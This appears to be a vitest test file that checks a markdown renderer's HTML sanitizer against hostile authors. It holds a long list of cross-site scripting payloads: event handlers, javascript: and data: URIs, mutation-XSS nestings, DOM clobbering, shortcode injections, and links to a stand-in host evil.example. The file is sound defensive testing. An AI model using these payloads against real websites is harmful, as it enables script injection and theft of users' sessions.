import { Parser } from 'htmlparser2'
import { describe, expect, test } from 'vitest'
import { sanitize } from '../../../src/markdown/render/clean/sanitize.ts'
import { renderNow } from '../../../src/markdown/render/pipeline.ts'
import { renderMarkdown } from '../../../src/markdown/render.ts'
import { fc } from '../../support/property.ts'

const payloads = [
  '<script>alert(1)</script>',
  '<ScRiPt src=//evil.example/x.js></sCrIpT>',
  '<img src=x onerror=alert(1)>',
  '<img src="x" OnErRoR\n=\nalert(1) />',
  '<svg onload=alert(1)><animate attributeName=href values=javascript:alert(1) /></svg>',
  '<svg><style><img src=x onerror=alert(1)></style></svg>',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
  '<xmp><img src=x onerror=alert(1)></xmp><xmp></xmp><script>alert(1)</script>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
  '<textarea><script>alert(1)</script></textarea><textarea></textarea><img src onerror=alert(1)>',
  '<option>&lt;script&gt;alert(1)&lt;/script&gt;</option>',
  '[a](javascript:alert(1)) [b](JaVaScRiPt:alert(1)) <javascript:alert(1)>',
  '[a](java&#x09;script:alert(1)) [b](&#106;avascript:alert(1)) [c](javascript&colon;alert(1))',
  '<a href="&#1;java\nscript:alert(1)">a</a> <a href=" vbscript:msgbox(1)">b</a>',
  '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">a</a> ![x](data:image/svg+xml;base64,PHN2Zz4=)',
  '<img src="data:text/html,<script>alert(1)</script>"> <img src=" da\tta:image/svg+xml,<svg onload=alert(1)>">',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe><iframe src="https://www.youtube-nocookie.com/embed/x"></iframe>',
  '<iframe data-own="own-00" src="javascript:alert(1)"></iframe><object data=x></object><embed src=x><applet code=x>',
  '<form action=//evil.example><input name=password><button formaction=javascript:alert(1)>b</button></form>',
  '<p style="background:url(javascript:alert(1));position:fixed;inset:0">cover</p><link rel=stylesheet href=//evil.example>',
  '<a id=location href=//evil.example></a><img name=cookie src=a.png><form id=document name=body></form>',
  '<base href=//evil.example><meta http-equiv=refresh content="0;url=javascript:alert(1)"><title>x</title>',
  'x[^"><img src=x onerror=alert(1)>]\n\n[^"><img src=x onerror=alert(1)>]: y',
  '# x" onclick=alert(1) <img src=x onerror=alert(1)> {#a"onclick=alert(1)}\n\n## constructor\n\n## __proto__',
  '```js" onload=alert(1) class="x\n</code></pre><script>alert(1)</script>\n```',
  '| a |\n|---|\n| <td onmouseover=alert(1)>x | \n\n<table><tr><td background="javascript:alert(1)">',
  '{{< figure src="x\\" onerror=alert(1) y=" caption="<script>alert(1)</script>" link="javascript:alert(1)" >}}',
  '{{< youtube id="x"onload="alert(1)" >}} {{< ref "javascript:alert(1)" >}} [x]({{< ref "javascript:alert(1)//a/" >}})',
  '{{< highlight "js\\" onload=alert(1)" >}}\n</code><script>alert(1)</script>\n{{< /highlight >}}',
  '<div title="a` onclick=alert(1) b">x</div><a title=\'"><script>alert(1)</script>\'>y</a>',
  '<!--><script>alert(1)</script>--> <!-- --!><img src=x onerror=alert(1)> -->',
  '<![CDATA[><script>alert(1)</script>]]> <?php <script>alert(1)</script> ?> <!DOCTYPE x [<!ENTITY y "z">]>',
  '<video poster=javascript:alert(1) src=javascript:alert(1) onloadstart=alert(1)><source src="javascript:alert(1)"></video>',
  '<details ontoggle=alert(1) open>x</details><marquee onstart=alert(1)>y</marquee><body onload=alert(1)>',
  '<picture><source srcset="javascript:alert(1), data:text/html,x 2x" onerror=alert(1)><img srcset="x 1x, java&#10;script:alert(1) 2x"></picture>',
  '<iframe srcdoc="<img src=x onerror=alert(1)><script>alert(1)</script><svg onload=alert(1)>"></iframe>',
  "<iframe srcdoc='<iframe srcdoc=&quot;<img src onerror=alert(1)>&quot;></iframe>'></iframe>",
  '<iframe src="java&Tab;script:alert(1)" title="<img src=x onerror=alert(1)>"><img src=x onerror=alert(1)></iframe>',
  '<iframe src="https://www.youtube.com/embed/x&quot; onload=alert(1) y=&quot;"></iframe><embed src=javascript:alert(1)>',
  '<object data="javascript:alert(1)"><param name=movie value="vbscript:x"><svg/onload=alert(1)></object><frame src=javascript:alert(1)>',
  '<svg><title><img src=x onerror=alert(1)></title><a xlink:href="javascript:alert(1)"><text>x</text></a><use href="data:x"></svg>',
  '<svg><image href="x" onload=alert(1)><foreignObject><iframe src=javascript:alert(1)></iframe></foreignObject><set onbegin=alert(1)>',
  '<svg><desc><title><a id="</title><img src onerror=alert(1)>"></desc></svg> <svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
  '<math href="javascript:alert(1)"><annotation-xml encoding="text/html"><svg><style></svg><img src=x onerror=alert(1)></style></annotation-xml></math>',
  '<textarea placeholder="<img src=x onerror=alert(1)>"></textarea><div><textarea><img src=x onerror=alert(1)></textarea></div>',
  '<input value="<script>alert(1)</script>" onfocus=alert(1) autofocus><select onchange=alert(1)><option label="<svg onload=alert(1)>">',
  '<form action=javascript:alert(1) id=x><input type=image src=javascript:alert(1) formaction=javascript:alert(1)></form>',
  '<area href=javascript:alert(1) alt="<img src onerror=alert(1)>"><map name=x><area href="data:text/html,x" onclick=alert(1)></map>',
  '<xmp><script>alert(1)</script></xmp><listing>&lt;script&gt;alert(1)&lt;/script&gt;</listing><plaintext><script>alert(1)</script>',
  '<noscript><style></noscript><img src=x onerror=alert(1)></style></noscript><noembed><img src=x onerror=alert(1)></noembed>',
  '<img data-src="javascript:alert(1)" data-srcset="javascript:alert(1)"><img data-src="data:image/svg+xml,x" src="data:,">',
  '<applet code=x archive=y><param name=src value=javascript:alert(1)></applet><portal src=javascript:alert(1)></portal><dialog onclose=alert(1)>',
  '$<img src=x onerror=alert(1)>$ $$<script>alert(1)</script>$$ \\(<svg onload=alert(1)>\\)\n\n$$\n<script>alert(1)</script>\n$$',
  'www.example.org/"onmouseover=alert(1) https://example.org/<script>alert(1)</script> a"@example.org',
  '> [!note"onclick=alert(1)] <script>alert(1)</script>\n> <img src=x onerror=alert(1)>',
  '> [!note] <img src=x onerror=alert(1)> $<svg onload=alert(1)>$',
  ':::note[<img src=x onerror=alert(1)>]{onclick=alert(1) style="position:fixed"}\n<script>alert(1)</script>\n:::',
  '!!! note "<svg onload=alert(1)>"\n    <script>alert(1)</script>',
  '[[javascript:alert(1)|<img src=x onerror=alert(1)>]] [[x" onclick=alert(1) y="]] [[wiki:javascript:alert(1)]]',
  '![[x.png" onerror=alert(1)|<b>]] ![[javascript:alert(1).mp4]] ![[data:text/html,x.pdf]] ![[x"onload="y.mp3]]',
  '%%<script>alert(1)</script> %% {/* <script> */} <Tabs onClick={alert(1)} href="javascript:alert(1)"><script>alert(1)</script></Tabs>',
  '{% post_link x "<img src=x onerror=alert(1)>" %} {% asset_img javascript:alert(1).png "" onerror=alert(1)" %}',
  '[a]({% post_url javascript:alert(1) %}) [b]({{ "javascript:alert(1)" | relative_url }})',
  '{% highlight js" onload=alert(1) %}\n</code><script>alert(1)</script>\n{% endhighlight %}',
  'a\n{: .x onclick="alert(1)" #location href="javascript:alert(1)" style="position:fixed"}',
]

const dialects = [undefined, 'jekyll', 'hexo', 'docusaurus', 'obsidian', 'pelican'] as const

const forbiddenTags = new Set(
  'script style iframe object embed applet svg math xmp noscript textarea form button select option base meta link title frame frameset template marquee body'.split(
    ' ',
  ),
)
const addressAttributes = [
  'href',
  'src',
  'poster',
  'cite',
  'action',
  'formaction',
  'background',
  'data',
  'srcdoc',
  'xlink:href',
]

const forbiddenAttributes = [
  'style',
  'name',
  'srcdoc',
  'formaction',
  'action',
  'background',
  'data-own',
]

const playerAddress =
  /^https:\/\/(www\.youtube-nocookie\.com\/embed\/|player\.vimeo\.com\/video\/|player\.bilibili\.com\/player\.html\?)[\w=&?-]+$/

/** The tags and attributes that a browser would see. */
function elements(html: string): { name: string; attribs: Record<string, string> }[] {
  const found: { name: string; attribs: Record<string, string> }[] = []
  const parser = new Parser({ onopentag: (name, attribs) => found.push({ name, attribs }) })
  parser.end(html)
  return found
}

function scheme(address: string): string | undefined {
  const bare = [...address].filter((char) => char > ' ' && char !== '\u00a0').join('')
  return /^([a-z][a-z0-9+.-]*):/i.exec(bare)?.[1]?.toLowerCase()
}

function expectHarmless(html: string): void {
  for (const { name, attribs } of elements(html)) {
    const isOwnFrame = name === 'iframe' && playerAddress.test(attribs.src ?? '')
    if (!isOwnFrame) expect(forbiddenTags).not.toContain(name)
    for (const [key, value] of Object.entries(attribs)) {
      expect(key.startsWith('on'), `${key} in ${html}`).toBe(false)
      expect(forbiddenAttributes).not.toContain(key)
      if (addressAttributes.includes(key))
        expect(['http', 'https', 'mailto', 'tel', undefined]).toContain(scheme(value))
      if (key === 'srcset')
        for (const address of value.split(','))
          expect(['http', 'https', undefined]).toContain(scheme(address))
    }
  }
}

describe('hostile authors', () => {
  test.each(payloads)('%s', async (payload) => {
    for (const body of [
      payload,
      `> ${payload}`,
      `- a\n\n  ${payload}`,
      `text ${payload} text`,
      `<div>\n\n${payload}`,
    ]) {
      for (const dialect of dialects) {
        const options = { lang: 'en', path: 'posts/x', file: 'posts/x.mdx', dialect }
        const { html } = await renderMarkdown(body, options)
        expect(html).not.toMatch(/<(script|svg|math|xmp|style|iframe|object|embed|form)/i)
        expectHarmless(html)
      }
    }
  })

  test('find no hole by random input either', () => {
    const pieces = [
      ...new Set(payloads.flatMap((payload) => payload.split(/(?=[<>"'`&{}[\]()\s])/))),
    ]
    const body = fc
      .array(fc.constantFrom(...pieces, '\n', '\n\n', '    ', '\ud800', '\u0000'), {
        maxLength: 40,
      })
      .map((parts) => parts.join(''))
    fc.assert(
      fc.property(body, (text) => {
        const { html, status } = renderNow(text, { lang: 'en', path: 'posts/x' })
        expect(status).toBe('rendered')
        expectHarmless(html)
      }),
      { numRuns: 2_000 },
    )
  })

  test('get ids with a prefix, so that nothing in the page is shadowed', async () => {
    const { html } = await renderMarkdown(
      '<a id="location" href="/x">x</a> <a name="cookie">y</a>\n\n<p id="fn:1">z</p>',
      {
        lang: 'en',
        path: 'x',
      },
    )
    expect(elements(html).flatMap(({ attribs }) => attribs.id ?? [])).toEqual([
      'user-content-location',
      'user-content-cookie',
      'user-content-fn:1',
    ])
  })

  test('keep the text of a link whose address is dropped', async () => {
    const { html } = await renderMarkdown('[click me](javascript:alert(1))', {
      lang: 'en',
      path: 'x',
    })
    expect(html).toBe('<p><a>click me</a></p>\n')
  })

  test('may embed pictures, but no other data', async () => {
    const picture = 'data:image/png;base64,iVBORw0KGgo='
    const { html } = await renderMarkdown(`![a](${picture}) ![b](data:text/html;base64,PHA+)`, {
      lang: 'en',
      path: 'x',
    })
    expect(html).toContain(`src="${picture}"`)
    expect(html).not.toContain('data:text')
  })

  test('never see the mark of generated elements', () => {
    const { html } = renderNow("<div title='\n\n# Heading\n\n'>x</div>", { lang: 'en', path: 'x' })
    expect(html).not.toContain('own-')
  })

  test('gain no frame and no attribute even if they know the mark', () => {
    const frame = (src: string) => `<iframe data-own="M-" src="${src}"></iframe>`
    const found = { ownIds: new Set<string>(), ofGithub: () => undefined }
    const page = { mark: 'M-', ...found, rule: 'github' as const }
    const clean = (html: string) => sanitize(html, page, { lang: 'en', path: 'x' }).html
    expect(clean(frame('https://evil.example/'))).toBe('')
    expect(clean(frame('https://www.youtube-nocookie.com.evil.example/embed/x'))).toBe('')
    expect(clean(frame('https://www.youtube-nocookie.com/embed/x?autoplay=1'))).toBe('')
    expect(clean(frame('https://player.vimeo.com/video/1?h=a&autoplay=1'))).toBe('')
    expect(clean(frame('https://player.bilibili.com/player.html?bvid=BV1%22x'))).toBe('')
    expect(clean(frame('https://www.youtube-nocookie.com/embed/abc-_1'))).toContain('<iframe')
    expect(clean('<p title="a M-b" id="x M-">y</p>')).toBe('<p>y</p>')
  })
})
